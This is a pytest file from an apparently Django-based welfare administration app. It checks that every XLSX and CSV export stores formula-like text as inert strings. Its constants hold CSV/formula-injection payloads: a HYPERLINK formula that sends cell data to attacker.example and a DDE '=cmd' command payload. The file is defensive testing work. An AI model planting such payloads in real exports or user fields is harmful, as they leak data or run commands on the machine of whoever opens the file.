"""Formula injection: every XLSX and CSV KruCare writes keeps a text that starts like a formula
as inert text (issue 11, point 3). A person named `=HYPERLINK(…)` with the position
`=cmd|' /C calc'!A0` goes through each writer: no cell of any workbook is a formula, and no CSV
field starts with a trigger character."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.utils import timezone
from django_tenants.utils import schema_context
from openpyxl import Workbook, load_workbook

from apps.idcards import services as idcard_services
from apps.people.models import Person
from apps.reimbursements import documents
from apps.reimbursements.selectors import child_education_register, payment_register
from central.benchmarks import IndicatorValue
from core.spreadsheets import FORMULA_TRIGGERS, csv_row, xlsx_append
from core.thai import fiscal_year, fiscal_year_of
from tenants.models import Office
from tests.conftest import central_client, office_client
from tests.people.factories import make_person
from tests.reimbursements.conftest import add_child, bangkok, medical_receipt, rates, user
from tests.reimbursements.test_documents import _education_paid, _medical_paid

pytestmark = pytest.mark.django_db
__all__ = ["rates"]  # a fixture of the claim tests, used here

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"คลิกที่นี่")'
DDE = "=cmd|' /C calc'!A0"
TITLE = '=HYPERLINK("http://attacker.example","นาย")'  # 50 characters at most
EVIL = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "＝1+1"]


def _workbook_cells(content: bytes) -> list[tuple[object, str]]:
    """(value, data type) of every cell of every sheet."""
    book = load_workbook(io.BytesIO(content))
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def _assert_inert(content: bytes, *expected: str) -> None:
    cells = _workbook_cells(content)
    assert [value for value, kind in cells if kind == "f"] == []
    texts = {value for value, _kind in cells if isinstance(value, str)}
    for text in expected:  # the text itself is kept exactly
        assert any(text in value for value in texts), (text, texts)


# --- the helper -----------------------------------------------------------------------------


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_text_starting_like_a_formula_is_stored_as_a_string(write_only: bool) -> None:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    xlsx_append(sheet, [*EVIL, "สมชาย", -5, Decimal("-1250.50"), 0, date(2014, 6, 2), None])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = _workbook_cells(buffer.getvalue())
    # The text is unchanged (with lxml, which openpyxl uses where installed, exactly; without,
    # XML itself reads a raw carriage return back as a line feed).
    values = [value for value, _ in cells[: len(EVIL)]]
    assert values in (EVIL, [v.replace("\r", "\n") for v in EVIL])
    assert {kind for _, kind in cells[: len(EVIL)]} == {"s"}
    numbers = cells[len(EVIL) + 1 : len(EVIL) + 4]
    assert numbers == [(-5, "n"), (-1250.5, "n"), (0, "n")]  # negative numbers stay numbers
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    assert all(cell.quotePrefix for cell in list(sheet.iter_rows())[0][: len(EVIL)])


def test_csv_text_starting_like_a_formula_gets_a_leading_quote() -> None:
    row = csv_row([*EVIL, "สมชาย", -5, Decimal("-1250.50"), None])
    assert row[: len(EVIL)] == [f"'{value}" for value in EVIL]
    assert row[len(EVIL) :] == ["สมชาย", -5, Decimal("-1250.50"), ""]
    assert set(FORMULA_TRIGGERS) >= {"=", "+", "-", "@", "\t", "\r"}


# --- every writer ---------------------------------------------------------------------------


@pytest.fixture
def evil_person(office_a: Office) -> Person:
    with schema_context(office_a.schema_name):
        # The title is free text too: the register starts the name with it.
        return make_person(title=TITLE, first_name_th="สมชาย", last_name_th=HYPERLINK, position=DDE)


def test_people_export_is_inert(office_a: Office, evil_person: Person) -> None:
    response = office_client(office_a, "welfare_officer").get("/people/export.xlsx")
    assert response.status_code == 200
    _assert_inert(response.content, TITLE, HYPERLINK, DDE)


def test_people_import_template_is_inert(office_a: Office) -> None:
    response = office_client(office_a, "welfare_officer").get("/people/import/template.xlsx")
    assert response.status_code == 200
    _assert_inert(response.content)


def test_id_card_register_is_inert(office_a: Office, evil_person: Person) -> None:
    with schema_context(office_a.schema_name):
        idcard_services.card_application_create(
            person=evil_person, reason="expired", received_by=user("welfare_officer")
        )
    year = fiscal_year_of(timezone.localdate()).be_year
    response = office_client(office_a, "welfare_officer").get(f"/idcards/register.xlsx?fy={year}")
    assert response.status_code == 200
    _assert_inert(response.content, TITLE)


def test_claims_registers_are_inert(office_a: Office, evil_person: Person, rates: dict) -> None:
    with schema_context(office_a.schema_name):
        _medical_paid(evil_person, medical_receipt("R-1"), at=bangkok(date(2014, 6, 2)))
        child = add_child(evil_person, 1, date(2006, 1, 1))  # takes the last name
        _education_paid(evil_person, child, 1, "3000.00", bangkok(date(2014, 6, 2), 10))
        year = fiscal_year(2557)
        medical = documents.medical_register_xlsx(
            payment_register(kind="medical", fiscal_year=year),
            office_name=HYPERLINK,
            fiscal_year=year,
            full_ids=True,
        )
        education = documents.child_education_register_xlsx(
            child_education_register(fiscal_year=year),
            office_name="สำนักงาน",
            fiscal_year=year,
            full_ids=True,
        )
    _assert_inert(medical, HYPERLINK)
    _assert_inert(education, TITLE)
    client = office_client(office_a, "finance_officer")
    for path in ("medical", "child-education"):
        response = client.get(f"/claims/registers/{path}.xlsx?fy=2557")
        assert response.status_code == 200, path
        _assert_inert(response.content, TITLE)


@pytest.fixture
def evil_office(db: None) -> Office:
    office = Office.objects.create(
        code="formula",
        schema_name="esa_formula",
        name_th=HYPERLINK,
        kind="primary",
        region="south",
        province=DDE,
        area_number=77,
    )
    IndicatorValue.objects.create(
        office=office,
        fiscal_year=2557,
        code="idcards.issued.teacher",
        value=Decimal("-3"),  # a number, even negative, stays a number
        collected_at=timezone.now(),
    )
    return office


def test_benchmark_exports_are_inert(evil_office: Office) -> None:
    client = central_client("analyst")
    workbook = client.get("/benchmarks/export.xlsx?fy=2557").getvalue()
    _assert_inert(workbook, HYPERLINK, DDE)
    assert (-3, "n") in _workbook_cells(workbook)

    text = client.get("/benchmarks/export.csv?fy=2557").getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    fields = [field for row in rows for field in row]
    assert f"'{HYPERLINK}" in fields and f"'{DDE}" in fields
    assert not [field for field in fields if field.startswith(("=", "+", "@", "\t", "\r"))]
    assert "-3" in fields  # the number, not a text behind a quote
